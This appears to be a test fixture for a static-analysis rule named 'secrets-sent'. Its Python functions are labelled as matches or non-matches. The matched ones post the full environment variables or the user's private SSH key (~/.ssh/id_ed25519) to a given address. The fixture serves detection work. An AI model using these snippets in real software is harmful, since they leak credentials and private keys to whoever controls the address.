import json
import os
import urllib.request

import requests


def report(address):
    # ruleid: secrets-sent
    requests.post(address, json=dict(os.environ))


def collect(address):
    known = dict(os.environ)
    body = json.dumps(known).encode()
    # ruleid: secrets-sent
    urllib.request.urlopen(address, data=body)


def keys(address):
    with open(os.path.expanduser("~/.ssh/id_ed25519")) as file:
        # ruleid: secrets-sent
        requests.post(address, data=file.read())


def ping(address):
    # ok: secrets-sent
    requests.post(address, json={"region": os.environ.get("REGION")})


def upload(address, path):
    with open(path) as file:
        # ok: secrets-sent
        requests.post(address, data=file.read())


def login(address):
    headers = {"Authorization": os.environ["TOKEN"]}
    # ok: secrets-sent
    requests.post(address, headers=headers, json={})
